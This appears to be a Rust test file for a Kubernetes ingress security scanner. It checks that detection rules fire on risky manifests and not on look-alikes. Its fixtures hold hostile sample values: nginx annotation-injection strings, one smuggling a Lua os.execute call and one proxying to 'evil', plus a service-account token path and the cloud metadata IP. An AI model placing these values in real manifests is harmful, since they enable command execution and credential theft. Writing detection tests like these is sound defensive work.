//! Manifest rules: each fires on its object and not on a look-alike; the
//! live engine applies them to what a write introduces; and Panther's test
//! cases for an Ingress created without TLS agree.

use sentinel_core::ingress::annotations::Controller;
use sentinel_core::manifest::load;
use sentinel_core::manifest::rules::{Env, object};
use sentinel_core::rules::{RuleId, Severity};
use sentinel_core::store::Store as _;
use sentinel_tests::engine::*;
use sentinel_tests::samples_dir;
use serde_json::{Value, json};

/// An Ingress in YAML with these extra annotation lines and spec lines.
fn ingress(annotations: &str, spec: &str) -> String {
    format!(
        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\n  namespace: shop\n  annotations:\n    team: shop\n{annotations}spec:\n  tls: [{{hosts: [shop.example.com], secretName: shop-tls}}]\n  rules:\n    - host: shop.example.com\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n            backend: {{service: {{name: web, port: {{number: 80}}}}}}\n{spec}"
    )
}

fn rules_in(yaml: &str, env: &Env<'_>) -> Vec<(RuleId, Severity, usize)> {
    let loaded = load("case.yaml", yaml);
    assert!(loaded.errors.is_empty(), "{:?}\n{yaml}", loaded.errors);
    let mut out = Vec::new();
    for m in &loaded.objects {
        for l in object(m.kind(), m.namespace(), m.name(), &m.object, env) {
            out.push((l.finding.rule, l.finding.severity, m.position(&l.locus.pointer(&m.object)).line));
        }
    }
    out
}

/// (rule, an object that has it, a look-alike that does not).
fn cases() -> Vec<(RuleId, String, String)> {
    let a = |line: &str| format!("    {line}\n");
    vec![
        (
            RuleId::SnippetInjected,
            ingress(&a("nginx.ingress.kubernetes.io/server-snippet: \"location /x { return 200; }\""), ""),
            ingress(&a("nginx.ingress.kubernetes.io/proxy-body-size: 8m"), ""),
        ),
        (
            RuleId::AnnotationInjection,
            ingress(&a("nginx.ingress.kubernetes.io/auth-url: \"http://auth/verify\\n}\\nlocation /x {\""), ""),
            ingress(&a("nginx.ingress.kubernetes.io/auth-url: https://auth.example.com/verify?rd=$escaped_request_uri"), ""),
        ),
        (
            RuleId::AnnotationInjection,
            ingress(&a("nginx.ingress.kubernetes.io/mirror-target: \"http://m/$1; proxy_pass http://evil\""), ""),
            ingress(&a("nginx.ingress.kubernetes.io/mirror-target: https://mirror.example.com$request_uri"), ""),
        ),
        (
            RuleId::PathTraversal,
            ingress(&a("nginx.ingress.kubernetes.io/rewrite-target: /var/run/secrets/kubernetes.io/serviceaccount/token"), ""),
            ingress(&a("nginx.ingress.kubernetes.io/rewrite-target: /app/$2"), ""),
        ),
        (
            RuleId::AllowlistWidened,
            ingress(&a("nginx.ingress.kubernetes.io/whitelist-source-range: 10.0.0.0/8,0.0.0.0/0"), ""),
            ingress(&a("nginx.ingress.kubernetes.io/whitelist-source-range: 10.0.0.0/8"), ""),
        ),
        (
            RuleId::HostAdded,
            ingress("", "    - host: \"*.example.com\"\n"),
            ingress("", "    - host: www.example.com\n"),
        ),
        (
            RuleId::TlsMissing,
            ingress("", "    - host: api.example.com\n"),
            "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: w, namespace: shop}\nspec:\n  tls: [{hosts: ['*.example.com']}]\n  rules: [{host: a.example.com}]\n".into(),
        ),
        (
            RuleId::TlsWeakened,
            ingress(&a("nginx.ingress.kubernetes.io/ssl-redirect: \"false\""), ""),
            ingress(&a("nginx.ingress.kubernetes.io/ssl-redirect: \"true\""), ""),
        ),
        (
            RuleId::DefaultBackend,
            ingress("", "  defaultBackend: {service: {name: catch-all, port: {number: 80}}}\n"),
            ingress("", ""),
        ),
        (
            RuleId::ExposurePublic,
            ingress(&a("alb.ingress.kubernetes.io/scheme: internet-facing"), ""),
            ingress(
                &(a("alb.ingress.kubernetes.io/scheme: internet-facing") + &a("alb.ingress.kubernetes.io/inbound-cidrs: 203.0.113.0/24")),
                "",
            ),
        ),
        (
            RuleId::HeadersStripped,
            ingress(&a("nginx.ingress.kubernetes.io/cors-allow-origin: \"*\""), ""),
            ingress(&a("nginx.ingress.kubernetes.io/cors-allow-origin: https://shop.example.com"), ""),
        ),
        (
            RuleId::ExternalNameUnsafe,
            "apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: shop}\nspec: {type: ExternalName, externalName: 169.254.169.254}\n".into(),
            "apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: shop}\nspec: {type: ExternalName, externalName: api.partner.example}\n".into(),
        ),
        (
            RuleId::ControllerUnsafe,
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ingress-nginx-controller, namespace: ingress-nginx}\ndata:\n  allow-snippet-annotations: \"true\"\n".into(),
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ingress-nginx-controller, namespace: ingress-nginx}\ndata:\n  allow-snippet-annotations: \"false\"\n  annotations-risk-level: High\n".into(),
        ),
        (
            RuleId::GatewayListenerInsecure,
            "apiVersion: gateway.networking.k8s.io/v1\nkind: Gateway\nmetadata: {name: g, namespace: shop}\nspec:\n  listeners:\n    - {name: web, protocol: HTTPS, port: 443}\n".into(),
            "apiVersion: gateway.networking.k8s.io/v1\nkind: Gateway\nmetadata: {name: g, namespace: shop}\nspec:\n  listeners:\n    - {name: web, protocol: HTTPS, port: 443, tls: {certificateRefs: [{name: c}]}}\n".into(),
        ),
        (
            RuleId::GatewayRoutesAllNamespaces,
            "apiVersion: gateway.networking.k8s.io/v1\nkind: Gateway\nmetadata: {name: g, namespace: shop}\nspec:\n  listeners:\n    - {name: web, protocol: TLS, port: 443, tls: {mode: Passthrough}, allowedRoutes: {namespaces: {from: All}}}\n".into(),
            "apiVersion: gateway.networking.k8s.io/v1\nkind: Gateway\nmetadata: {name: g, namespace: shop}\nspec:\n  listeners:\n    - {name: web, protocol: TLS, port: 443, tls: {mode: Passthrough}, allowedRoutes: {namespaces: {from: Same}}}\n".into(),
        ),
        (
            RuleId::ReferenceGrantOpen,
            "apiVersion: gateway.networking.k8s.io/v1beta1\nkind: ReferenceGrant\nmetadata: {name: r, namespace: payments}\nspec:\n  from: [{group: gateway.networking.k8s.io, kind: HTTPRoute, namespace: shop}]\n  to: [{group: '', kind: Service}]\n".into(),
            "apiVersion: gateway.networking.k8s.io/v1beta1\nkind: ReferenceGrant\nmetadata: {name: r, namespace: payments}\nspec:\n  from: [{group: gateway.networking.k8s.io, kind: HTTPRoute, namespace: shop}]\n  to: [{group: '', kind: Service, name: checkout}]\n".into(),
        ),
        (
            RuleId::CrossNamespaceBackend,
            "apiVersion: gateway.networking.k8s.io/v1\nkind: GRPCRoute\nmetadata: {name: r, namespace: shop}\nspec:\n  rules:\n    - backendRefs: [{name: checkout, namespace: payments, port: 50051}]\n".into(),
            "apiVersion: gateway.networking.k8s.io/v1\nkind: GRPCRoute\nmetadata: {name: r, namespace: shop}\nspec:\n  rules:\n    - backendRefs: [{name: checkout, namespace: shop, port: 50051}]\n".into(),
        ),
    ]
}

#[test]
fn manifest_rules_fire_on_their_object_and_not_on_the_look_alike() {
    let configmaps = |ns: &str, name: &str| ns == "ingress-nginx" && name == "ingress-nginx-controller";
    let env = Env { controller_configmap: &configmaps, ..Env::bare() };
    for (rule, positive, negative) in cases() {
        let fired = rules_in(&positive, &env);
        assert!(fired.iter().any(|(r, _, _)| *r == rule), "{rule} did not fire: {fired:?}\n{positive}");
        let quiet = rules_in(&negative, &env);
        assert!(!quiet.iter().any(|(r, _, _)| *r == rule), "{rule} fired on the look-alike: {quiet:?}\n{negative}");
    }
}

#[test]
fn findings_point_at_the_line_that_holds_them() {
    let yaml = ingress(
        "    nginx.ingress.kubernetes.io/configuration-snippet: |\n      return 403;\n",
        "    - host: \"*.example.com\"\n",
    );
    let found = rules_in(&yaml, &Env::bare());
    let line = |needle: &str| yaml.lines().position(|l| l.contains(needle)).unwrap() + 1;
    assert!(found.contains(&(RuleId::SnippetInjected, Severity::Critical, line("configuration-snippet"))), "{found:?}");
    assert!(found.contains(&(RuleId::HostAdded, Severity::High, line("*.example.com"))), "{found:?}");
}

/// The nginx rules apply where the class's controller is ingress-nginx or
/// unknown, not where another controller serves the class.
#[test]
fn nginx_rules_follow_the_class_controller_not_the_class_name() {
    let yaml = ingress("    nginx.ingress.kubernetes.io/auth-url: \"http://a;}\"\n", "");
    let injection = |controller| {
        let env = Env { controller, ..Env::bare() };
        rules_in(&yaml, &env).iter().any(|(r, _, _)| *r == RuleId::AnnotationInjection)
    };
    assert!(injection(None), "an unknown controller");
    assert!(injection(Some(Controller::Nginx)), "ingress-nginx under any class name");
    assert!(!injection(Some(Controller::AwsLoadBalancer)), "the ALB controller ignores nginx annotations");
}

/// Panther's `k8s_ingress_without_tls` test cases: the creates without TLS
/// are `ingress.tls.missing`; the one with TLS, the failed request and the
/// update of an existing Ingress are not. Panther leaves system namespaces
/// out; Sentinel judges every namespace (a policy suppression can leave
/// one out).
#[test]
fn panther_ingress_without_tls_cases_agree() {
    let path = samples_dir().join("panther-analysis/rules/kubernetes_rules/k8s_ingress_without_tls.yml");
    let text = std::fs::read_to_string(path).unwrap();
    let rule: Value = serde_norway::from_str(&text).unwrap();
    let tests = rule["Tests"].as_array().expect("Panther tests");
    assert_eq!(tests.len(), 7);
    // The AKS and GKE cases wrap the event in Azure's and Google's own
    // envelopes, which an EKS product does not read: the five EKS cases remain.
    let eks: Vec<&Value> = tests.iter().filter(|t| t["Log"]["kind"] == "Event").collect();
    assert_eq!(eks.len(), 5);
    for t in eks {
        let name = t["Name"].as_str().unwrap();
        let expected = t["ExpectedResult"].as_bool().unwrap() || name == "System namespace (excluded)";
        let mut h = Harness::with_policy("cluster = \"test\"\n");
        h.feed(&[t["Log"].clone()]);
        let held_or_alerted = h
            .store
            .scan(sentinel_core::store::Space::Incident, "", chrono::Utc::now())
            .unwrap()
            .iter()
            .any(|(_, r)| r.value.to_string().contains("ingress.tls.missing"))
            || h.sink.rules().contains(&RuleId::TlsMissing);
        assert_eq!(held_or_alerted, expected, "{name}");
    }
}

/// Live: a default backend added to an existing Ingress at night is a
/// content finding; an auth-url carrying nginx syntax is injection; the low
/// `ingress.tls.missing` is held below the alert threshold with its incident.
#[test]
fn live_writes_are_judged_on_what_they_introduce() {
    let mut h = Harness::with_policy("cluster = \"test\"\n");
    let mut catch_all = storefront();
    catch_all["spec"]["defaultBackend"] = json!({"service": {"name": "collector", "port": {"number": 80}}});
    h.feed(&[
        write("c", "create", "ingresses", "shop", "web", "2024-05-01T10:00:00Z", ci(), Some(&storefront())),
        write("d", "update", "ingresses", "shop", "web", "2024-05-02T02:00:00Z", mallory(), Some(&catch_all)),
    ]);
    assert!(h.sink.rules().contains(&RuleId::DefaultBackend), "{:?}", h.sink.rules());
    let mut injected = catch_all.clone();
    injected["metadata"]["annotations"]["nginx.ingress.kubernetes.io/auth-url"] =
        json!("http://auth.example.com/verify\n}\nlocation ~* /x { content_by_lua_block { os.execute('id') } }");
    h.feed(&[write("i", "update", "ingresses", "shop", "web", "2024-05-02T02:05:00Z", mallory(), Some(&injected))]);
    assert!(h.sink.rules().contains(&RuleId::AnnotationInjection), "{:?}", h.sink.rules());
    // Written again unchanged: nothing new is introduced.
    let before = h.sink.rules().len();
    let mut relabelled = injected.clone();
    relabelled["metadata"]["labels"] = json!({"tier": "web"});
    h.feed(&[write("j", "update", "ingresses", "shop", "web", "2024-05-02T02:06:00Z", mallory(), Some(&relabelled))]);
    assert_eq!(h.sink.rules().len(), before);
}

/// Live: a Gateway API write whose body is logged (outside EKS's fixed
/// policy, or a seeded baseline) is judged on what it introduces.
#[test]
fn a_gateway_write_with_a_body_is_judged_on_what_it_introduces() {
    let mut h = Harness::with_policy("cluster = \"test\"\n");
    let gw = |from: &str| {
        json!({"apiVersion": "gateway.networking.k8s.io/v1", "kind": "Gateway",
               "metadata": {"name": "edge", "namespace": "shop"},
               "spec": {"listeners": [{"name": "https", "protocol": "HTTPS", "port": 443,
                                       "tls": {"certificateRefs": [{"name": "c"}]},
                                       "allowedRoutes": {"namespaces": {"from": from}}}]}})
    };
    let mut create = write("g1", "create", "gateways", "shop", "edge", "2024-05-01T10:00:00Z", ci(), Some(&gw("Same")));
    create["objectRef"]["apiGroup"] = json!("gateway.networking.k8s.io");
    let mut open =
        write("g2", "update", "gateways", "shop", "edge", "2024-05-02T02:00:00Z", mallory(), Some(&gw("All")));
    open["objectRef"]["apiGroup"] = json!("gateway.networking.k8s.io");
    h.feed(&[create, open]);
    assert!(h.sink.rules().contains(&RuleId::GatewayRoutesAllNamespaces), "{:?}", h.sink.rules());
}

/// Two Ingresses claiming one host and path can take each other's traffic.
#[test]
fn a_host_and_path_claimed_twice_is_a_clash() {
    use sentinel_core::ingress::IngressState;
    use sentinel_core::manifest::rules::{Claimant, host_clashes};
    let state = |name: &str, host: &str, path: &str| {
        IngressState::from_value(&json!({"metadata": {"name": name, "namespace": "shop"}, "spec": {"rules": [
            {"host": host, "http": {"paths": [{"path": path, "backend": {"service": {"name": name}}}]}}]}}))
        .unwrap()
    };
    let (web, thief, other) = (
        state("web", "shop.example.com", "/"),
        state("promo", "shop.example.com", "/"),
        state("api", "shop.example.com", "/api"),
    );
    let claim = |name: &'static str, s| Claimant { namespace: "shop", name, place: format!("{name}.yaml:1"), state: s };
    let clashes = host_clashes(&[claim("promo", &thief), claim("web", &web), claim("api", &other)], 1);
    assert_eq!(clashes.len(), 1);
    assert_eq!(clashes[0].1.finding.rule, RuleId::HostClash);
    assert!(clashes[0].1.finding.summary.contains("shop/web (web.yaml:1)"), "{}", clashes[0].1.finding.summary);
    // A different path, or the same object again (a new version of it), is no clash.
    assert!(host_clashes(&[claim("api", &other), claim("web", &web)], 1).is_empty());
    assert!(host_clashes(&[claim("web", &web), claim("web", &web)], 1).is_empty());
}
